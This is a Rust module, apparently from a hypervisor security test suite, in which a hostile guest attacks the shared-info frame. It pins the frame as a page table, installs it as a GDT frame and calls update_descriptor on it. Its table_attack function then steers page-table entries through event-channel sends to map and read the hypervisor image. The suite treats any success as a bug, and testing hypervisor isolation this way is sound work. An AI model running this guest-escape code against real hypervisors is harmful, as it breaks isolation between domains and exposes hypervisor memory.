//! Attacks on the shared-info frame (issue 15, hole 10): the hypervisor writes event bits and
//! the time into it on the domain's behalf, so it must never become a page table or a
//! descriptor frame, whatever its contents. The guest zeroes it through the hole, unmaps it
//! and tries to give it every protected type: pinned as an L1-L4 table, installed as a GDT
//! frame, written with `update_descriptor`. Each must be refused; one that goes through is
//! undone at once (before the hypervisor writes into it again).
//!
//! The fatal variant ([`table_attack`], `attack=shared_info_table`) goes all the way: pinned
//! and linked into an L2, the frame's event bits become page-table entries the guest steers
//! by sending on its own ports (port 64 + b sets bit b of entry 257), which maps the
//! hypervisor's image into the guest; the domain then crashes, and destroying it drops
//! references that were never taken. Refused, it powers off.
//!
//! `main` calls [`run`] in the survivable suite; `fatal` names [`table_attack`]. This module
//! must never leave the shared-info frame with a type, nor map it anywhere but the hole.

use guest_rt::abi::hypercall::{Hypercall, MmuUpdateCmd, MmuextCmd, ShutdownReason};
use guest_rt::abi::ids::{DomId, EvtchnPort, Mfn, VcpuId, PAGE_SIZE};
use guest_rt::abi::mmu::{MmuUpdate, MmuextOp, UVMF_INVLPG, UVMF_LOCAL};
use guest_rt::hypercall::{hypercall2, hypercall3, hypercall4, shutdown};
use guest_rt::layout::{self, PTE_PRESENT, PTE_USER, PTE_WRITABLE};
use guest_rt::{evtchn, println};

use crate::targets::Targets;
use crate::verdict::{Outcome, Tally};

/// `DOMID_SELF` as a register argument.
const SELF: u64 = DomId::SELF.0 as u64;
/// A 64-bit data segment, DPL 3: a descriptor `update_descriptor` accepts anywhere it may
/// write.
const DATA_DPL3: u64 = 0x00cf_f200_0000_ffff;
/// The slot of the boot L2 (under L3 entry 510, the one covering the image) that the fatal
/// attack links the frame into: 512 MiB above the image, beyond any initial mapping.
const HOOK_SLOT: usize = 256;
/// The L3 entry over the image's 1 GiB (`VIRT_BASE` is L4 511, L3 510).
const IMAGE_L3_SLOT: usize = 510;
/// `evtchn_pending` starts at byte 2048 of shared info: its word 1 (ports 64-127) is
/// entry 257 of the frame read as a table.
const PENDING_ENTRY: usize = 2048 / 8 + 1;
const FIRST_PORT_OF_ENTRY: u32 = 64;
/// The machine frame the event bits point entry 257 at: the hypervisor image.
const TARGET_FRAME: Mfn = crate::targets::HYPERVISOR_IMAGE;

/// The survivable attacks: every protected type on the zeroed, unmapped frame.
pub fn run(tally: &mut Tally, targets: &Targets) {
    let frame = targets.shared_info;
    let pins = [
        (MmuextCmd::PinL1Table, "L1"),
        (MmuextCmd::PinL2Table, "L2"),
        (MmuextCmd::PinL3Table, "L3"),
        (MmuextCmd::PinL4Table, "L4"),
    ];
    for (cmd, level) in pins {
        // Zeroed before each: validating a table may fill in the hypervisor's slots.
        if let Err(ret) = zero_and_unmap(targets) {
            tally.record(format_args!("zero the shared-info frame through the hole"), Outcome::of_call(ret));
            return;
        }
        let outcome = Outcome::of_call(extended(MmuextOp::with_mfn(cmd, frame)));
        let attack = format_args!("pin the zeroed shared-info frame (mfn {:#x}) as an {level}", frame.0);
        if tally.record(attack, outcome) {
            extended(MmuextOp::with_mfn(MmuextCmd::UnpinTable, frame));
        }
    }
    let outcome = Outcome::of_call(set_gdt(&[frame.0]));
    if tally.record(format_args!("install the shared-info frame as a GDT frame"), outcome) {
        set_gdt(&[]);
    }
    let ret = update_descriptor(frame.address() + 8, DATA_DPL3);
    tally.record(format_args!("update_descriptor in the shared-info frame"), Outcome::of_call(ret));
}

/// The fatal attack: pin the frame as an L1, link it, steer its entries with events.
pub fn table_attack(targets: &Targets) -> ! {
    println!(
        "hostile: attack shared_info_table: zero the shared-info frame, unmap it, pin it as an L1, link it into an L2 and steer its entries with events"
    );
    let frame = targets.shared_info;
    if let Err(ret) = zero_and_unmap(targets) {
        println!("hostile: attack shared_info_table: FAILED zeroing the frame ({ret})");
        shutdown(ShutdownReason::Crash);
    }
    let pin = extended(MmuextOp::with_mfn(MmuextCmd::PinL1Table, frame));
    let Some(l2) = targets.window_l3.next_table(IMAGE_L3_SLOT) else {
        println!("hostile: attack shared_info_table: FAILED finding the boot L2");
        shutdown(ShutdownReason::Crash);
    };
    let link = MmuUpdate::new(
        MmuUpdateCmd::NormalPtUpdate,
        l2.entry_address(HOOK_SLOT),
        frame.address() | PTE_PRESENT | PTE_WRITABLE | PTE_USER,
    );
    let linked = update_one(link);
    if pin < 0 && linked < 0 {
        println!(
            "hostile: attack shared_info_table: refused (pin errno {}, link errno {})",
            pin.unsigned_abs(),
            linked.unsigned_abs()
        );
        shutdown(ShutdownReason::Poweroff);
    }
    println!(
        "hostile: attack shared_info_table: SUCCEEDED (BUG): pin returned {pin}, linking it into L2 slot {HOOK_SLOT} returned {linked}"
    );
    if linked < 0 {
        shutdown(ShutdownReason::Crash);
    }
    steer_entry(frame)
}

/// Sends on ports 64 + b for every bit b of a present, writable entry for
/// [`TARGET_FRAME`], then reads that frame through the linked table; never returns.
fn steer_entry(frame: Mfn) -> ! {
    let wanted = layout::kernel_rw_pte(TARGET_FRAME.address());
    let highest = FIRST_PORT_OF_ENTRY + (63 - wanted.leading_zeros());
    for _ in 1..=highest {
        if let Err(error) = evtchn::bind_ipi(VcpuId(0)) {
            println!("hostile: attack shared_info_table: binding ports failed ({error:?})");
            shutdown(ShutdownReason::Crash);
        }
    }
    for bit in (0..64).filter(|b| wanted >> b & 1 != 0) {
        // A refused send only leaves that bit clear; the read below shows the result.
        let _ = evtchn::send(EvtchnPort(FIRST_PORT_OF_ENTRY + bit));
    }
    let table_base = layout::VIRT_BASE + ((HOOK_SLOT as u64) << 21);
    let page = table_base + PENDING_ENTRY as u64 * PAGE_SIZE;
    // SAFETY: whatever entry 257 of the linked frame holds now maps `page`, or the read
    // faults and the domain dies; only a read, of one word.
    let word = unsafe { core::ptr::read_volatile(page as *const u64) };
    println!(
        "hostile: attack shared_info_table: SUCCEEDED (BUG): events made entry {PENDING_ENTRY} of shared info (mfn {:#x}) map mfn {:#x}; read {word:#018x} there",
        frame.0, TARGET_FRAME.0
    );
    shutdown(ShutdownReason::Crash)
}

/// Maps the shared-info frame writable at the hole, zeroes it, and unmaps it again;
/// `Err(rax)` of the call that failed.
fn zero_and_unmap(targets: &Targets) -> Result<(), i64> {
    let pte = layout::kernel_rw_pte(targets.shared_info.address());
    let ret = map_hole(targets, pte);
    if ret < 0 {
        return Err(ret);
    }
    // SAFETY: the hole maps the shared-info frame writable now; the program keeps nothing
    // there (the hostile guest never maps shared info itself).
    unsafe { core::ptr::write_bytes(targets.hole as *mut u8, 0, PAGE_SIZE as usize) };
    match map_hole(targets, 0) {
        ret if ret < 0 => Err(ret),
        _ => Ok(()),
    }
}

/// `update_va_mapping` of the hole to `pte`, flushed locally; rax after it.
fn map_hole(targets: &Targets, pte: u64) -> i64 {
    // SAFETY: the program uses the hole for nothing but these attacks.
    unsafe { hypercall3(Hypercall::UpdateVaMapping, targets.hole, pte, UVMF_INVLPG | UVMF_LOCAL) }
}

/// One `mmuext_op`; rax after it.
fn extended(op: MmuextOp) -> i64 {
    let mut done = 0u32;
    // SAFETY: pins and unpins of a frame the program does not use change no mapping.
    unsafe { hypercall4(Hypercall::MmuextOp, &raw const op as u64, 1, &raw mut done as u64, SELF) }
}

/// One `mmu_update` request; rax after it.
fn update_one(request: MmuUpdate) -> i64 {
    let mut done = 0u32;
    // SAFETY: the request links a table into an L2 slot the program never uses.
    unsafe { hypercall4(Hypercall::MmuUpdate, &raw const request as u64, 1, &raw mut done as u64, SELF) }
}

/// `set_gdt` with `frames` (512 entries each); rax after it.
fn set_gdt(frames: &[u64]) -> i64 {
    let entries = frames.len() as u64 * 512;
    // SAFETY: the hypervisor reads `frames.len()` numbers; the program loads no selector
    // from the guest GDT.
    unsafe { hypercall2(Hypercall::SetGdt, frames.as_ptr() as u64, entries) }
}

/// `update_descriptor` of the descriptor at machine address `maddr`; rax after it.
fn update_descriptor(maddr: u64, descriptor: u64) -> i64 {
    // SAFETY: it writes into a frame the program does not use as memory.
    unsafe { hypercall2(Hypercall::UpdateDescriptor, maddr, descriptor) }
}
